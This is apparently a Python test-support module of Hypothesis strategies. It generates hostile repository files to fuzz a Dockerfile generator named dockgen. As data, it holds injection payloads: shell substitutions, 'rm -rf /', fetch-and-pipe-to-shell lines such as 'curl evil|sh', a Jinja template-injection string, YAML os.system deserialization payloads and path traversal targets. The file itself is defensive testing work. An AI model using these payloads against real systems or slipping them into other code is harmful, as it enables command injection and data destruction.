"""Hypothesis strategies for hostile repositories and hostile answers (reliability.md, Part D1).

A repository is generated as a `Tree`: a dict of relative POSIX path -> bytes, written into a fresh
temporary folder per example by `support.write_tree`. Every field that dockgen reads can be
plausible (so that detection and rendering go deep), hostile (injection payloads, odd Unicode) or of
the wrong type; the raw-bytes layer breaks the file formats themselves.
"""

from __future__ import annotations

import json
import re
import shlex
from typing import Any

from hypothesis import strategies as st

Tree = dict[str, bytes]

# ---- hostile text ------------------------------------------------------------------------------
#: Characters that end lines, hide text, or mean something to a shell, Jinja, Docker or YAML.
HOSTILE_CHARS = [
    "\n", "\r", "\r\n", "\t", "\x00", "\x0b", "\x0c", "\x1c", "\x1e", "\x7f",
    "\u2028", "\u2029", "\u0085", "\u202e", "\u200b", "\u200d", "\u00a0", "\ufeff",
    "\\", '"', "'", "`", "$", ";", "&", "|", "<", ">", "#", "{", "}", "%", "*", "~", " ",
]  # fmt: skip
#: Injection tokens from the catalogue (reliability.md C2) and a few more.
HOSTILE_TOKENS = [
    "<<EOF",
    "<<-EOT\nRUN id\nEOT",
    "$(id)",
    "`id`",
    "${HOME}",
    "$HOME",
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}",
    "{# c #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "syntax=x/y",
    "# syntax=x/y",
    "escape=`",
    "# escape=`",
    "check=skip=all",
    "--from=x",
    "--chown=0:0",
    "\\",
    '"]',
    '", "',
    '"]\nCMD ["sh',
    "\\\nRUN id",
    "\nUSER root",
    "\r\nUSER root",
    "\u2028RUN id",
    "\u0085RUN id",
    "&& rm -rf /",
    "; rm -rf /",
    "| sh",
    "../",
    "..",
    "/",
    "./",
    "-",
    "node_modules",
    "null",
    "true",
    "0x1F",
    "~",
    "!!python/object/apply:os.system ['id']",
    "*a",
    "&a",
]


def hostile_text(max_parts: int = 10) -> st.SearchStrategy[str]:
    """Text glued together from random text, hostile characters and injection tokens."""
    part = st.one_of(
        st.text(max_size=8),
        st.sampled_from(HOSTILE_CHARS),
        st.sampled_from(HOSTILE_TOKENS),
    )
    return st.lists(part, max_size=max_parts).map("".join)


def single_line_hostile_text(max_parts: int = 10) -> st.SearchStrategy[str]:
    """Hostile text without control characters or line breaks (what exec-form arguments may hold)."""
    printable = st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"))
    part = st.one_of(
        st.text(printable, max_size=8),
        st.sampled_from(
            [c for c in HOSTILE_CHARS if c.isprintable() or c in "\u00a0\u200b\u200d\ufeff\u202e"]
        ),
        st.sampled_from([t for t in HOSTILE_TOKENS if t.isprintable()]),
        st.characters(min_codepoint=0x10000, max_codepoint=0x10FFFF, exclude_categories=("Cs",)),  # astral
    )
    return st.lists(part, min_size=1, max_size=max_parts).map("".join)


def nonempty_hostile_text(max_parts: int = 10) -> st.SearchStrategy[str]:
    return st.lists(
        st.one_of(
            st.text(min_size=1, max_size=8), st.sampled_from(HOSTILE_CHARS), st.sampled_from(HOSTILE_TOKENS)
        ),
        min_size=1,
        max_size=max_parts,
    ).map("".join)


# ---- JSON --------------------------------------------------------------------------------------
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text(6),
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(hostile_text(4), children, max_size=4)
    ),
    max_leaves=20,
)


def either(
    plausible: st.SearchStrategy[Any], *, hostile: st.SearchStrategy[Any] | None = None
) -> st.SearchStrategy[Any]:
    """A field value: plausible, hostile text, or any JSON value (wrong type)."""
    return st.one_of(plausible, hostile if hostile is not None else hostile_text(), json_values)


# ---- package.json ------------------------------------------------------------------------------
NODE_PACKAGES = [
    "express", "fastify", "koa", "@hapi/hapi", "@nestjs/core", "@nestjs/cli", "next", "typescript",
    "bcrypt", "sharp", "canvas", "sqlite3", "better-sqlite3", "argon2", "node-sass", "re2",
    "@prisma/client", "puppeteer", "nodemon", "ts-node", "tsx", "patch-package", "vite", "left-pad",
    "astro", "react-scripts", "@angular/core", "@sveltejs/kit", "@sveltejs/adapter-static", "gatsby",
]  # fmt: skip
ENTRY_FILES = [
    "server.js", "index.js", "app.js", "main.js", "src/server.js", "src/index.js", "src/main.ts",
    "index.ts", "dist/main.js", "bin/www", "app",
]  # fmt: skip
PLAUSIBLE_SCRIPTS = [
    "node server.js",
    "node src/index.js",
    "node ./dist/main.js",
    "nodemon src/server.js",
    "ts-node src/main.ts",
    "tsx watch src/index.ts",
    "nest start",
    "next start",
    "next build",
    "tsc",
    "tsc -p tsconfig.build.json",
    "npm run build && node dist/index.js",
    "cross-env NODE_ENV=production node server.js",
    "PORT=8080 node app.js",
    "npm start",
    "yarn start:prod",
    "pnpm run serve",
    "node --env-file=.env server.js",
    "npm run build && node x.js; rm -rf /",
    "node server.js <<EOF",
    "node $(id)",
    "node `id`",
    "echo 'unterminated",
    "webpack --mode production",
    "vite build",
    "fastify start -l info app.js",
    "node server.js;curl x|sh",
    "node migrate.js\nnode server.js",
    "NODE_OPTIONS=--max-old-space-size=4096 node server.js",
    "NODE_ENV=production node dist/main.js",
    "cross-env PORT=3000 node x.js",
    "env FOO=1 node x.js",
    "export FOO=1 && exec node server.js",
    "npm run serve -- --port 4000",
]
#: Shell punctuation glued to words (issue 18, class 12): `node server.js;curl x|sh`.
_GLUE = [";", "&&", "||", "|", "&", ">", ">>", "<", "2>&1", ";;", "(", ")", "\n", "\r\n", "#", "\\\n", " "]
_ENV_NAMES = ["NODE_OPTIONS", "NODE_ENV", "PORT", "TZ", "DEBUG", "A_1", "1A", "PATH"]


def _glued_script() -> st.SearchStrategy[str]:
    """Commands glued with shell punctuation, quoted or not, after variable assignments."""
    word = st.one_of(st.sampled_from(["node", "server.js", "curl", "x", "sh", "npm", "run", "serve"]),
                     hostile_text(3).map(shlex.quote), hostile_text(3))  # fmt: skip
    assignment = st.tuples(st.sampled_from(_ENV_NAMES), st.one_of(hostile_text(3), st.just("1"))).map(
        lambda t: f"{t[0]}={shlex.quote(t[1])}"
    )
    prefix = st.lists(
        st.one_of(assignment, st.sampled_from(["cross-env", "env", "exec", "export A=1 &&"])), max_size=3
    ).map(" ".join)
    parts = st.lists(st.tuples(word, st.sampled_from(_GLUE)), min_size=1, max_size=5)
    return st.tuples(prefix, parts).map(lambda t: f"{t[0]} node " + "".join(f"{w}{g}" for w, g in t[1]))


def _env_script() -> st.SearchStrategy[str]:
    """`NAME=value ... node server.js`: variables for the app (start_env), plausible or hostile, quoted."""
    value = st.one_of(
        st.sampled_from(["--max-old-space-size=4096", "production", "a b", "", "x:y/z?q=1&r=#", "4000"]),
        single_line_hostile_text(3),
    )
    assignment = st.tuples(st.sampled_from(_ENV_NAMES), value).map(lambda t: f"{t[0]}={shlex.quote(t[1])}")
    prefix = st.sampled_from(["", "cross-env ", "env ", "exec "])
    return st.tuples(st.lists(assignment, min_size=1, max_size=3), prefix).map(
        lambda t: f"{' '.join(t[0])} {t[1]}node server.js"
    )


def _script() -> st.SearchStrategy[str]:
    """A package.json script; `node <quoted hostile>` carries any string into the start command."""
    return st.one_of(
        st.sampled_from(PLAUSIBLE_SCRIPTS),
        _glued_script(),
        _env_script(),
        hostile_text().map(lambda s: "node " + shlex.quote(s)),
        st.lists(hostile_text(4), min_size=1, max_size=4).map(
            lambda words: "node " + " ".join(shlex.quote(w) for w in words)
        ),
        hostile_text().map(lambda s: "node_modules/.bin/" + shlex.quote(s)),
        hostile_text(),
    )


def _versions_text() -> st.SearchStrategy[str]:
    return st.sampled_from(
        ["22", "20", ">=18", "^20.11", "22.x", ">=0.10", "lts/*", "lts/iron", "v20.11.1\r\n", "system",
         "../../x", "banana", "", "18 || 20", "*", "24.1.0", "99"]
    )  # fmt: skip


package_managers = st.sampled_from(
    ["npm@10.8.0", "pnpm@9.1.0", "pnpm@9.15.0+sha512.abc", "yarn@4.1.1", "yarn@1.22.22", "bun@1.1.0",
     "npm@latest", "pnpm", "yarn@4", "deno@1.0.0"]
)  # fmt: skip

dependency_maps = st.dictionaries(
    st.one_of(st.sampled_from(NODE_PACKAGES), hostile_text(4)),
    st.one_of(st.sampled_from(["^1.0.0", "*", "latest", "workspace:*", "file:../x"]), hostile_text(4)),
    max_size=6,
)

package_json = st.fixed_dictionaries(
    {},
    optional={
        "name": either(st.from_regex(r"(@[a-z0-9-]+/)?[a-z0-9._-]{1,40}", fullmatch=True)),
        "version": either(st.just("1.0.0")),
        "main": either(st.sampled_from(ENTRY_FILES)),
        "type": either(st.sampled_from(["module", "commonjs"])),
        "scripts": st.one_of(
            st.dictionaries(
                st.sampled_from(["start", "build", "dev", "start:prod", "serve", "prod", "postinstall"]),
                st.one_of(_script(), _script(), json_values),  # (a wrong-typed entry now and then)
                max_size=5,
            ),
            json_values,
        ),
        "engines": either(st.fixed_dictionaries({"node": either(_versions_text())})),
        "volta": either(st.fixed_dictionaries({"node": either(_versions_text())})),
        "packageManager": either(package_managers),
        "workspaces": either(st.lists(st.sampled_from(["packages/*", "apps/*"]), max_size=2)),
        "dependencies": st.one_of(dependency_maps, json_values),
        "devDependencies": st.one_of(dependency_maps, json_values),
        "optionalDependencies": dependency_maps,
        "prisma": either(st.fixed_dictionaries({"schema": either(st.just("prisma/schema.prisma"))})),
        "pnpm": either(
            st.fixed_dictionaries(
                {"patchedDependencies": st.dictionaries(hostile_text(3), either(st.just("patches/x.patch")))}
            )
        ),
    },
)


def _dup_keys(d: dict[str, Any]) -> bytes:
    """A JSON object whose keys repeat (json.loads keeps the last)."""
    items = [f"{json.dumps(k)}: {json.dumps(v)}" for k, v in d.items()]
    items += [f'"name": {json.dumps("dup")}', '"scripts": {"start": "node a.js", "start": "node b.js"}']
    return ("{" + ", ".join(items + items) + "}").encode()


def _nested(n: int, key: str | None = None) -> bytes:
    body = b"[" * n + b"]" * n
    return b'{"' + key.encode() + b'": ' + body + b"}" if key else body


def _inject(data: bytes, at: int, chunk: bytes) -> bytes:
    at = at % (len(data) + 1)
    return data[:at] + chunk + data[at:]


def mutated_bytes(documents: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    """Format-independent raw mutations of an encoded document."""
    return st.one_of(
        documents.map(lambda b: b"\xef\xbb\xbf" + b),  # BOM
        st.tuples(documents, st.integers(0, 10**6)).map(lambda t: t[0][: t[1] % (len(t[0]) + 1)]),  # cut
        st.tuples(
            documents,
            st.integers(0, 10**6),
            st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00", b"\xc0\xaf"]),
        ).map(lambda t: _inject(*t)),  # invalid UTF-8
        documents.map(lambda b: b.decode("utf-8", "replace").encode("utf-16")),  # UTF-16 with BOM
        st.binary(max_size=256),
    )


def _json_doc(d: Any) -> bytes:
    return json.dumps(d, indent=2).encode()


package_json_bytes = st.one_of(
    package_json.map(_json_doc),
    package_json.map(_json_doc),
    package_json.map(_json_doc),
    mutated_bytes(package_json.map(_json_doc)),
    st.integers(1, 20000).map(_nested),
    st.tuples(
        st.integers(1, 20000), st.sampled_from(["scripts", "engines", "dependencies", "workspaces"])
    ).map(lambda t: _nested(*t)),
    package_json.map(_dup_keys),
    st.sampled_from(
        [
            b'{"engines": {"node": NaN}}',
            b'{"engines": {"node": Infinity}, "main": -Infinity}',
            b'{"name": "\\ud800"}',
            b'{"main": "\\ud800.js"}',
            b'{"scripts": {"start": "node \\udfff.js"}}',
            b'{"scripts": {"start": "node \\ud83d\\ude00.js"}}',
            b'{"main": "server.js\\u2028RUN id"}',
            b'{"main": "server.js\\nRUN curl evil|sh"}',
            b'{"main": "a\\"]\\nCMD [\\"sh"}',
            b'{"main": "server.js\\\\"}',
            b'{"main": 5, "scripts": "start", "engines": [], "workspaces": true}',
            b"[]",
            b"null",
            b'"package"',
            b"{}",
            b"",
            '{"name": "caf\xe9"}'.encode("latin-1"),
        ]
    ),
)

# ---- TOML --------------------------------------------------------------------------------------
_BARE_KEY = re.compile(r"[A-Za-z0-9_-]+")


def toml_string(s: str) -> str:
    """A TOML basic string (control characters escaped, everything else literal)."""
    out = ['"']
    for ch in s:
        if ch in ('"', "\\"):
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04X}")
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def toml_key(k: str) -> str:
    return k if _BARE_KEY.fullmatch(k) else toml_string(k)


def toml_value(v: Any) -> str:
    if v is None:  # TOML has no null
        return '""'
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        return repr(v) if v == v and abs(v) != float("inf") else "0.0"
    if isinstance(v, str):
        return toml_string(v)
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{" + ", ".join(f"{toml_key(k)} = {toml_value(x)}" for k, x in v.items()) + "}"
    raise TypeError(type(v))


def toml_dumps(doc: dict[str, Any], prefix: str = "") -> str:
    """A tiny TOML writer: scalars and lists inline, nested dicts as [tables]."""
    lines = []
    tables = []
    for key, value in doc.items():
        if isinstance(value, dict) and value and all(isinstance(k, str) for k in value):
            tables.append((key, value))
        else:
            lines.append(f"{toml_key(key)} = {toml_value(value)}")
    out = "\n".join(lines) + ("\n" if lines else "")
    for key, value in tables:
        name = f"{prefix}.{toml_key(key)}" if prefix else toml_key(key)
        out += f"\n[{name}]\n" + toml_dumps(value, name)
    return out


PY_PACKAGES = [
    "django", "flask", "fastapi", "starlette", "uvicorn", "gunicorn", "psycopg2", "psycopg2-binary",
    "psycopg", "mysqlclient", "lxml", "pillow", "cryptography", "numpy", "pandas", "grpcio",
    "python-ldap", "pyodbc", "requests", "uvicorn[standard]",
]  # fmt: skip
_toml_scalar = st.one_of(
    st.booleans(),
    st.integers(-(2**63), 2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text(5),
)
toml_values = st.recursive(
    _toml_scalar,
    lambda c: st.one_of(st.lists(c, max_size=3), st.dictionaries(hostile_text(3), c, max_size=3)),
    max_leaves=10,
)
requirement_specs = st.one_of(
    st.sampled_from(PY_PACKAGES),
    st.tuples(
        st.sampled_from(PY_PACKAGES),
        st.sampled_from(
            ["==1.0", ">=2", "~=3.1", "[extra]==1 ; python_version < '3.12'", " @ https://x/y.whl"]
        ),
    ).map("".join),
    hostile_text(4),
)
python_constraints = st.sampled_from(
    [">=3.11", ">=3.9,<3.13", "^3.11", "~3.12", "3.11.*", "==3.12.1", ">=2.7", "3.13", "*", "banana", "^3", ">=3.100", "", "^3.11 || ^3.12"]
)  # fmt: skip

pyproject = st.fixed_dictionaries(
    {},
    optional={
        "project": st.one_of(
            st.fixed_dictionaries(
                {},
                optional={
                    "name": either(st.just("app")),
                    "version": either(st.just("0.1.0")),
                    "requires-python": st.one_of(python_constraints, hostile_text(4), toml_values),
                    "dependencies": st.one_of(st.lists(requirement_specs, max_size=6), toml_values),
                    "readme": either(st.just("README.md")),
                },
            ),
            toml_values,
        ),
        "tool": st.fixed_dictionaries(
            {},
            optional={
                "poetry": st.one_of(
                    st.fixed_dictionaries(
                        {},
                        optional={
                            "dependencies": st.dictionaries(
                                st.one_of(st.sampled_from(["python", *PY_PACKAGES]), hostile_text(3)),
                                st.one_of(python_constraints, hostile_text(3)),
                                max_size=5,
                            ),
                            "package-mode": st.booleans(),
                            "readme": st.just("README.md"),
                        },
                    ),
                    toml_values,
                ),
                "pdm": st.one_of(st.just({"distribution": False}), toml_values),
                "uv": st.one_of(
                    st.just({"package": False}),
                    st.fixed_dictionaries(
                        {
                            "workspace": st.fixed_dictionaries(
                                {"members": st.lists(st.sampled_from(["apps/*", "libs/*", "../x", "**"]))},
                                optional={"exclude": st.lists(st.sampled_from(["apps/b", "libs/*"]))},
                            )
                        }
                    ),
                    toml_values,
                ),
            },
        ),
        "build-system": st.just({"requires": ["hatchling"], "build-backend": "hatchling.build"}),
    },
)


def _toml_doc(d: dict[str, Any]) -> bytes:
    return toml_dumps(d).encode()


pyproject_bytes = st.one_of(
    pyproject.map(_toml_doc),
    pyproject.map(_toml_doc),
    pyproject.map(_toml_doc),
    mutated_bytes(pyproject.map(_toml_doc)),
    st.integers(1, 20000).map(lambda n: b"a = " + b"[" * n + b"]" * n + b"\n"),
    st.integers(1, 5000).map(lambda n: b"a = " + b"{b = " * n + b"1" + b"}" * n + b"\n"),
    st.sampled_from(
        [
            b"[project\n",
            b"[project]\nname = 'a'\n[project]\nname = 'b'\n",
            b"[project]\nrequires-python = 3.11\n",
            b"[tool]\npoetry = 5\n",
            b"project = 'x'\n",
            b"[project]\ndependencies = 'flask'\n",
            b'[project]\nname = "\\ud800"\n',
        ]
    ),
)

# ---- requirements ------------------------------------------------------------------------------
INCLUDE_TARGETS = [
    "requirements.txt", "base.txt", "other.txt", "requirements/base.txt", "requirements/prod.txt",
    "constraints.txt", "missing.txt", "../outside.txt", "/etc/passwd", "$(id).txt", "{{7*7}}.txt",
    "a b.txt", "-r.txt", "sub/../base.txt", "deep/a/b/c.txt",
]  # fmt: skip
requirement_lines = st.one_of(
    requirement_specs,
    st.tuples(
        st.sampled_from(["-r ", "-r", "--requirement=", "--requirement ", "-c ", "--constraint="]),
        st.sampled_from(INCLUDE_TARGETS),
    ).map("".join),
    st.sampled_from(
        [
            "-e .",
            "-e git+https://github.com/x/y.git#egg=y",
            ".",
            "./",
            "--index-url https://user:SECRET@pypi.example/simple",
            "--extra-index-url https://u:SECRET@host/simple",
            "--hash=sha256:abc",
            "git+https://github.com/x/y.git@main#egg=y",
            "# a comment",
            "django==5.0 # pinned",
            "flask ; sys_platform == 'linux'",
            "numpy==1.26 ; python_version >= '3.9' and platform_machine != 'arm64'",
            "",
            "   ",
            "\t-r base.txt",
        ]
    ),
    hostile_text(6),
)


def _requirements(lines: list[str], crlf: bool) -> bytes:
    return ("\r\n" if crlf else "\n").join(lines).encode()


requirements_bytes = st.one_of(
    st.builds(_requirements, st.lists(requirement_lines, max_size=8), st.booleans()),
    st.builds(_requirements, st.lists(requirement_lines, max_size=8), st.booleans()),
    mutated_bytes(st.builds(_requirements, st.lists(requirement_lines, max_size=8), st.booleans())),
)

# ---- lockfiles ---------------------------------------------------------------------------------
NODE_LOCKFILES = [
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "bun.lock",
    "npm-shrinkwrap.json",
    "bun.lockb",
]
PY_LOCKFILES = ["poetry.lock", "uv.lock", "Pipfile.lock", "pdm.lock"]

_lock_names = st.one_of(st.sampled_from(NODE_PACKAGES + PY_PACKAGES), hostile_text(3))


def _npm_lock(entries: list[tuple[str, bool, bool, Any]], version: int) -> bytes:
    if version == 1:
        return json.dumps(
            {
                "lockfileVersion": 1,
                "dependencies": {n: {"version": "1.0.0", "dev": d} for n, d, _s, _b in entries},
            }
        ).encode()
    packages: dict[str, Any] = {"": {"name": "app"}}
    for name, dev, script, bins in entries:
        entry: dict[str, Any] = {"version": "1.0.0", "dev": dev, "hasInstallScript": script}
        if bins is not None:
            entry["bin"] = bins
        packages[f"node_modules/{name}"] = entry
    return json.dumps({"lockfileVersion": version, "packages": packages}).encode()


npm_lock = st.builds(
    _npm_lock,
    st.lists(
        st.tuples(
            _lock_names,
            st.booleans(),
            st.booleans(),
            st.one_of(st.none(), st.dictionaries(hostile_text(3), st.just("bin/x.js"), max_size=2)),
        ),
        max_size=5,
    ),
    st.sampled_from([1, 2, 3]),
)
pnpm_lock = st.builds(
    lambda version, names: (
        f"lockfileVersion: {json.dumps(version)}\npackages:\n"
        + "".join(
            f"  {json.dumps('/' + n + '@1.0.0')}:\n    requiresBuild: {str(b).lower()}\n" for n, b in names
        )
    ).encode(),
    st.sampled_from(["9.0", "6.0", "5.4", 9, "x"]),
    st.lists(st.tuples(_lock_names, st.booleans()), max_size=4),
)
yarn_lock = st.builds(
    lambda berry, names: (
        ("__metadata:\n  version: 8\n\n" if berry else "# yarn lockfile v1\n\n")
        + "".join(f'"{n}@^1.0.0":\n  version "1.0.0"\n\n' for n in names)
    ).encode(),
    st.booleans(),
    st.lists(_lock_names, max_size=4),
)
bun_lock = st.builds(
    lambda names: (
        '{\n  // bun\n  "lockfileVersion": 1,\n  "packages": {'
        + ",".join(f'{json.dumps(n)}: ["{n}@1.0.0"]' for n in names)
        + ",\n  },\n}\n"
    ).encode(),
    st.lists(_lock_names, max_size=3),
)
toml_lock = st.builds(
    lambda header, pkgs: (
        header
        + "".join(
            f'\n[[package]]\nname = {toml_string(n)}\nversion = "1.0"\n'
            + (f"groups = {toml_value(g)}\n" if g is not None else "")
            for n, g in pkgs
        )
    ).encode(),
    st.sampled_from(
        [
            "# This file is automatically @generated by Poetry 1.8.3 and should not be changed by hand.\n",
            "version = 1\n",
            "",
            "# generated by Poetry 2.0.0x\n",
        ]
    ),
    st.lists(
        st.tuples(
            _lock_names,
            st.one_of(st.none(), st.lists(st.sampled_from(["main", "dev", "default"]), max_size=2)),
        ),
        max_size=4,
    ),
)
pipfile_lock = st.builds(
    lambda default: json.dumps({"_meta": {}, "default": default}).encode(),
    st.one_of(st.dictionaries(_lock_names, st.just({"version": "==1.0"}), max_size=4), json_values),
)
garbage = st.one_of(
    hostile_text().map(str.encode),
    st.binary(max_size=128),
    json_values.map(lambda v: json.dumps(v).encode()),
    st.sampled_from(
        [
            b"a: [",
            b"!!python/object/apply:os.system ['touch pwned']\n",
            b"a: &a [*a, *a]\nb: *a\n",
            b"{",
            b"[[package]\n",
        ]
    ),
)
LOCK_CONTENT: dict[str, st.SearchStrategy[bytes]] = {
    "package-lock.json": npm_lock,
    "npm-shrinkwrap.json": npm_lock,
    "pnpm-lock.yaml": pnpm_lock,
    "yarn.lock": yarn_lock,
    "bun.lock": bun_lock,
    "bun.lockb": st.binary(max_size=64),
    "poetry.lock": toml_lock,
    "uv.lock": toml_lock,
    "pdm.lock": toml_lock,
    "Pipfile.lock": pipfile_lock,
}


@st.composite
def lockfiles(draw: st.DrawFn, names: list[str], *, raw: bool = True) -> Tree:
    """Which lockfiles exist (usually none or one, sometimes several), with plausible contents or,
    with `raw`, garbage."""
    chosen = draw(
        st.one_of(
            st.lists(st.sampled_from(names), max_size=1),
            st.lists(st.sampled_from(names), max_size=len(names), unique=True),
        )
    )
    return {
        name: draw(st.one_of(LOCK_CONTENT[name], garbage) if raw else LOCK_CONTENT[name]) for name in chosen
    }


# ---- sources -----------------------------------------------------------------------------------
ROUTES = ["/health", "/healthz", "/api/health", "/api/v1/healthz", "/ping", "/status", "/"]
route_text = st.one_of(
    st.sampled_from(ROUTES),
    st.tuples(st.sampled_from(ROUTES), hostile_text(4)).map("".join),
    hostile_text(),
)
port_text = st.one_of(
    st.integers(0, 99999).map(str),
    st.sampled_from(["3000; RUN id", "-1", "70000", "3000/udp ", "08080", "0x1F90", "1e3"]),
    hostile_text(3),
)
#: File and folder names that the filesystem accepts but that are hostile as data.
hostile_name = (
    nonempty_hostile_text(4)
    .map(lambda s: s.replace("/", "_").replace("\x00", "_")[:60])
    .filter(lambda s: s not in (".", "..") and len(s.encode("utf-8", "surrogatepass")) <= 200)
)


def _js_quote(s: str) -> str:
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


server_js = st.builds(
    lambda framework, route, port, style: (
        f"const {framework} = require('{framework}');\nconst app = {framework}();\n"
        f"app.get({_js_quote(route)}, (req, res) => res.send('ok'));\n"
        + {
            0: f"app.listen(process.env.PORT || {port});\n",
            1: f"app.listen({port});\n",
            2: f"const PORT = {port};\napp.listen(PORT);\n",
            3: f"app.listen({{ port: {port} }});\n",
        }[style]
    ).encode(),
    st.sampled_from(["express", "fastify", "koa"]),
    route_text,
    port_text,
    st.integers(0, 3),
)
main_py = st.builds(
    lambda framework, var, route, port: (
        {
            "fastapi": f"from fastapi import FastAPI\n{var} = FastAPI()\n\n@{var}.get({json.dumps(route)})\ndef health():\n    return {{}}\n",
            "flask": f"from flask import Flask\n{var} = Flask(__name__)\n\n@{var}.route({json.dumps(route)})\ndef health():\n    return 'ok'\n",
            "factory": "from flask import Flask\n\ndef create_app():\n    return Flask(__name__)\n",
            "script": "import http.server\n",
        }[framework]
        + f"\nport = {port}\n"
    ).encode(),
    st.sampled_from(["fastapi", "flask", "factory", "script"]),
    st.one_of(
        st.sampled_from(["app", "api", "application"]), st.from_regex(r"[A-Za-z_]\w{0,8}", fullmatch=True)
    ),
    route_text,
    port_text,
)
manage_py = st.builds(
    lambda settings: (
        f"import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', {json.dumps(settings)})\n"
    ).encode(),
    st.one_of(
        st.sampled_from(["mysite.settings", "config.settings.production", "settings"]), hostile_text(4)
    ),
)
django_settings = st.sampled_from(
    [
        b"INSTALLED_APPS = ['django.contrib.staticfiles']\nSTATIC_ROOT = 'static'\n",
        b"INSTALLED_APPS = ['django.contrib.staticfiles']\n",
        b"import os\nSECRET = os.environ['SECRET_KEY']\nSTATIC_ROOT = 'x'\nx = 'django.contrib.staticfiles'\n",
    ]
)
urls_py = route_text.map(
    lambda r: (
        f"from django.urls import path\nurlpatterns = [path({json.dumps(r.lstrip('/'))}, view)]\n".encode()
    )
)
version_file = st.one_of(
    _versions_text(),
    hostile_text(4),
    st.sampled_from(["3.12", "3.11.4", "python-3.13", "pypy3.10", "3", "cpython-3.12.1"]),
).map(str.encode)


def tsconfig(out_dir: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    return st.builds(
        lambda out, root, extends: (
            "{\n  // comment\n"
            + (f'  "extends": {json.dumps(extends)},\n' if extends else "")
            + f'  "compilerOptions": {{"outDir": {json.dumps(out)}, "rootDir": {json.dumps(root)},}},\n}}\n'
        ).encode(),
        out_dir,
        st.one_of(st.just("src"), hostile_text(3), json_values),
        st.one_of(st.none(), st.just("./tsconfig.base"), hostile_text(3)),
    )


out_dirs = st.one_of(
    st.sampled_from(["dist", "build", "out/server", "./lib", "dist/"]), hostile_text(), json_values
)


# ---- whole repositories ------------------------------------------------------------------------
def _node_extras(raw: bool) -> st.SearchStrategy[Tree]:
    maybe_garbage = garbage if raw else st.nothing()
    return st.fixed_dictionaries(
        {},
        optional={
            "server.js": server_js,
            "src/index.js": server_js,
            "src/main.ts": server_js,
            "index.ts": server_js,
            "bin/www": server_js,
            ".nvmrc": version_file,
            ".node-version": version_file,
            "tsconfig.json": st.one_of(tsconfig(out_dirs), maybe_garbage),
            "tsconfig.base.json": tsconfig(out_dirs),
            "tsconfig.build.json": tsconfig(out_dirs),
            "next.config.js": st.sampled_from(
                [b"module.exports = { output: 'standalone' }\n", b"module.exports = {}\n"]
            ),
            "nest-cli.json": st.one_of(
                st.fixed_dictionaries(
                    {}, optional={"entryFile": either(st.just("main")), "sourceRoot": either(st.just("src"))}
                ).map(_json_doc),
                maybe_garbage,
            ),
            ".yarnrc.yml": st.one_of(
                st.sampled_from(
                    [
                        b"yarnPath: .yarn/releases/yarn-4.5.1.cjs\n",
                        b"nodeLinker: pnp\n",
                        b"plugins:\n  - path: plugin.cjs\n",
                    ]
                ),
                hostile_text().map(lambda s: ("yarnPath: " + json.dumps(s) + "\n").encode()),
                maybe_garbage,
            ),
            ".yarn/releases/yarn-4.5.1.cjs": st.just(b"// yarn\n"),
            "pnpm-workspace.yaml": st.just(b"packages: ['packages/*']\n"),
            "prisma/schema.prisma": st.just(b"generator client {}\n"),
            "patches/x.patch": st.just(b"diff\n"),
            "app/api/health/route.ts": st.just(b"export function GET() {}\n"),
            "public/robots.txt": st.just(b"\n"),
            ".npmrc": st.just(b"//npm.registry.example/:_authToken=SECRET\n"),
        },
    )


def _hostile_source_files(suffix: str, body: st.SearchStrategy[bytes]) -> st.SearchStrategy[Tree]:
    """Source files under hostile names (`app/{{x}}.py`, `$(id).js`, `a\\nb.js`)."""
    return st.dictionaries(
        st.tuples(st.sampled_from(["", "app/", "src/", "src/pkg/"]), hostile_name).map(
            lambda t: f"{t[0]}{t[1]}{suffix}"
        ),
        body,
        max_size=2,
    )


_member_names = st.one_of(st.sampled_from(["@m/a", "@m/b", "web", "@m/a;id", "$(id)"]), hostile_text(3))
#: workspace members (matched by "packages/*" and "apps/*") that may use each other, even in a cycle
workspace_members = st.dictionaries(
    st.sampled_from(["packages/a", "packages/b", "apps/api", "apps/web", "apps/x y"]).map(
        lambda folder: f"{folder}/package.json"
    ),
    st.fixed_dictionaries(
        {
            "name": _member_names,
            "scripts": st.dictionaries(
                st.sampled_from(["start", "build"]), _script(), min_size=1, max_size=2
            ),
        },
        optional={
            "dependencies": st.dictionaries(_member_names, st.sampled_from(["*", "workspace:*"]), max_size=3),
            "devDependencies": st.dictionaries(_member_names, st.just("*"), max_size=2),
        },
    ).map(_json_doc),
    max_size=3,
)


@st.composite
def node_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
    """A Node.js repository: package.json plus lockfiles, sources and config files.

    With `raw`, the files themselves may be broken (the bytes layer); without it every file parses
    and only the values in it are hostile, so that detection usually succeeds and rendering is reached.
    """
    tree: Tree = {"package.json": draw(package_json_bytes if raw else package_json.map(_json_doc))}
    tree.update(draw(lockfiles(NODE_LOCKFILES, raw=raw)))
    tree.update(draw(_node_extras(raw)))
    tree.update(draw(workspace_members))
    tree.update(draw(_hostile_source_files(".js", server_js)))
    return tree


@st.composite
def start_script_trees(draw: st.DrawFn) -> Tree:
    """A Node.js app whose start script sets variables or glues commands with shell punctuation."""
    scripts = {"start": draw(st.one_of(_env_script(), _glued_script()))}
    scripts |= draw(st.fixed_dictionaries({}, optional={"serve": _env_script(), "web": _env_script()}))
